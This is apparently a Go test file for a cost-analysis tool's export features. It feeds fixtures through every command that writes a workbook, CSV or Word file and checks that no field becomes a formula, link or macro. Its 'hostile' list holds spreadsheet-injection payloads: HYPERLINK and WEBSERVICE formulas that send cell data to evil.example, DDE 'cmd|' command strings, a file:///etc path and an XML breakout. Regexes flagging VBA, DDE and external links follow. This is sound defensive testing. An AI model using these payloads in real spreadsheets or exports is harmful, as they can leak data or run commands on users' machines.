package main

import (
	"archive/zip"
	"encoding/csv"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"ipta/cmd/ipta/internal/failure"
)

// hostile are texts that a spreadsheet would act upon if it took them for more
// than a text. Each holds the word EVIL.
var hostile = []string{
	`=HYPERLINK("http://evil.example/EVIL?"&A1,"click")`,
	`+EVIL+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C EVIL'!A0`,
	`@SUM(1+1)*EVIL`,
	"\t=EVIL()",
	" =WEBSERVICE(\"http://evil.example/EVIL\")",
	`http://evil.example/EVIL`,
	`file:///etc/EVIL`,
	`EVIL]'!A1+HYPERLINK("x")&'[x`,
	`&A&"EVIL,Bold"&P`,
	`</t></is></c><c r="Z1"><f>EVIL()</f></c>`,
	`"&EVIL()&"`,
}

// hostileFiles writes a parameter file and cases into a folder. Each text stands
// at every place of a domain, a stakeholder, a case and their unit costs, and the
// first one at the places of which a file has one.
func hostileFiles(t *testing.T, dir string, texts []string) {
	t.Helper()
	parameters := numbered(`ipta: parameters/1
name: Q
title: {en: Q, nl: Q}
price_level: 2024
discounting: {rate: 3%}
horizon: 5
sources: [{for: discounting.rate, publisher: Q, title: Q, url: Q, page: Q, via: Q}]
`, 0, texts[0])
	var stakeholders, domains, unitCosts strings.Builder
	write := func(name, content string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for i, text := range texts {
		stakeholders.WriteString(numbered("  s#: {label: {en: Q, nl: Q}}\n", i, text))
		domains.WriteString(numbered("  d#: {label: {en: Q, nl: Q}}\n", i, text))
		unitCosts.WriteString(numbered(`  coach#:
    label: {en: Q, nl: Q}
    domain: d#
    unit: {en: Q, nl: Q}
    value: 70
    price_year: 2024
    borne_by: {s#: 100%}
    source: {publisher: Q, title: Q, url: Q, page: Q, via: Q}
    note: {en: Q, nl: Q}
  eviction#:
    label: {en: Q, nl: Q}
    domain: d#
    unit: event
    value: 9000
    price_year: 2024
    borne_by: {s#: 100%}
    source: {assumption: Q}
`, i, text))
		write(fmt.Sprintf("c%d.yaml", i), numbered(`ipta: case/1
id: c#
title: Q
municipality: Q
start: 2024
interventions:
  - {unit_cost: coach#, quantity: 9, note: Q}
  - {label: Q, value: 5, unit: Q, borne_by: {s#: 100%}, source: {publisher: Q, title: Q, url: Q}}
avoided:
  - {unit_cost: eviction#, years: 1-2, evidence: {grade: 4, text: Q}, measured: [{on: 2022, happened: no, source: Q}]}
unpriced:
  - {label: Q, direction: +, for: s#}
allow:
  - {check: sure-without, because: Q, by: Q}
`, i, text))
	}
	write("p.yaml", parameters+"stakeholders:\n"+stakeholders.String()+"domains:\n"+domains.String()+"unit_costs:\n"+unitCosts.String())
	write("analysis.yaml", numbered("ipta: analysis/1\ntitle: Q\nselection: Q\n", 0, texts[0]))
}

// numbered puts a quoted text in place of every Q, and a number in place of #.
func numbered(content string, i int, text string) string {
	return strings.NewReplacer("Q", strconv.Quote(text), "#", strconv.Itoa(i)).Replace(content)
}

// TestHostileText wants no text of a file to become a formula, a link or a
// macro in a workbook or in CSV.
func TestHostileText(t *testing.T) {
	t.Parallel()
	base := t.TempDir() // for what would be read as cases
	dir := filepath.Join(base, "files")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	hostileFiles(t, dir, hostile)
	for name, args := range map[string]string{
		"../form.xlsx": "form . -p p.yaml -q -o ../form.xlsx",
		"../cases.csv": "convert . -q -o ../cases.csv",
		"../dutch.csv": "convert . -q -o ../dutch.csv --csv-excel nl",
		"budget.xlsx":  "budget . -p p.yaml -q -o budget.xlsx",
		"budget.csv":   "budget . -p p.yaml -q -o budget.csv",
		"track.csv":    "track . -p p.yaml --rows line -q -o track.csv",
		"moves.csv":    "sensitivity . -p p.yaml --all -q -o moves.csv",
		"brief.docx":   "brief . -p p.yaml -q -o brief.docx --sender =EVIL()",
		"result.xlsx":  "calc . -p p.yaml -q -o result.xlsx",
		"dutch.xlsx":   "calc . -p p.yaml -q -o dutch.xlsx --lang nl",
		"list.xlsx":    "params export -p p.yaml -o list.xlsx",
		"result.csv":   "calc . -p p.yaml -q -o result.csv",
		"dutch.csv":    "calc . -p p.yaml -q -o dutch.csv --csv-excel nl",
		"list.csv":     "params export -p p.yaml -o list.csv",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if output, status := ipta(t, dir, strings.Fields(args)...); status != failure.Done {
				t.Fatalf("ipta %s: exit status %d\n%s", args, status, output)
			}
			switch filepath.Ext(name) {
			case ".csv":
				harmlessCSV(t, filepath.Join(dir, name))
			case ".docx":
				harmlessParts(t, filepath.Join(dir, name))
			default:
				harmlessWorkbook(t, filepath.Join(dir, name))
			}
		})
	}
}

// harmlessCSV wants every field to be a number or a text that begins like one.
func harmlessCSV(t *testing.T, name string) {
	t.Helper()
	content, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	text := strings.TrimPrefix(string(content), "\ufeff")
	r := csv.NewReader(strings.NewReader(text))
	if strings.HasPrefix(text, "casus;") {
		r.Comma = ';'
	}
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	seen := false
	for _, record := range records {
		for _, field := range record {
			seen = seen || strings.Contains(field, "EVIL")
			_, err := strconv.ParseFloat(strings.Replace(field, ",", ".", 1), 64)
			if err != nil && field != "" && strings.ContainsAny(field[:1], "=+-@\t\r\n") {
				t.Errorf("%s: the field %q is a formula", filepath.Base(name), field)
			}
		}
	}
	if !seen {
		t.Errorf("%s does not hold the text", filepath.Base(name))
	}
}

// What of a workbook's parts acts, or of those of a text of Word: links out of it, fields,
// formulas, and names of others' files.
var (
	acting   = regexp.MustCompile(`(?i)<hyperlink [^>]*r:id|TargetMode="External"|externalLink|vbaProject|oleObject|ddeLink|<webPr|<customUI|<w:instrText|<w:fldSimple|<w:altChunk`)
	formulas = regexp.MustCompile(`(?s)<(f|c:f|formula1|formula2|definedName)(?: [^>]*)?>(.*?)</`)
	// quotedPart is a name of a sheet or a text inside a formula.
	quotedPart = regexp.MustCompile(`'(?:[^']|'')*'|"(?:[^"]|"")*"`)
)

// harmlessWorkbook wants no part of a workbook to act, and excelize, which writes it, to
// find no links in it either.
func harmlessWorkbook(t *testing.T, name string) {
	t.Helper()
	harmlessParts(t, name)
	f, err := excelize.OpenFile(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, sheet := range f.GetSheetList()[1:] { // the first one lists the others, with links within the file
		if links, err := f.GetHyperLinkCells(sheet, ""); err != nil || len(links) > 0 {
			t.Errorf("%s: %s holds the links %v, %v", filepath.Base(name), sheet, links, err)
		}
	}
}

// harmlessParts wants the parts of a workbook, or of a text of Word, to act by nothing but
// formulas of ours.
func harmlessParts(t *testing.T, name string) {
	t.Helper()
	z, err := zip.OpenReader(name)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	seen := false
	for _, part := range z.File {
		in, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(in)
		if err != nil {
			t.Fatal(err)
		}
		seen = seen || strings.Contains(string(content), "EVIL")
		if found := acting.Find(withoutTexts(content)); found != nil || acting.MatchString(part.Name) {
			t.Errorf("%s: %s holds %q", filepath.Base(name), part.Name, found)
		}
		for _, m := range formulas.FindAllSubmatch(content, -1) {
			formula := strings.NewReplacer("&#34;", `"`, "&#39;", "'", "&quot;", `"`, "&apos;", "'", "&amp;", "&").Replace(string(m[2]))
			if bare := quotedPart.ReplaceAllString(formula, ""); strings.Contains(bare, "EVIL") || strings.Contains(bare, "HYPERLINK") || strings.Contains(bare, "|") {
				t.Errorf("%s: %s holds the formula %s", filepath.Base(name), part.Name, formula)
			}
		}
	}
	if !seen {
		t.Errorf("%s does not hold the text", filepath.Base(name))
	}
}

// withoutTexts returns the XML of a part without what stands between its tags.
func withoutTexts(content []byte) []byte {
	return regexp.MustCompile(`>[^<]*<`).ReplaceAll(content, []byte("><"))
}
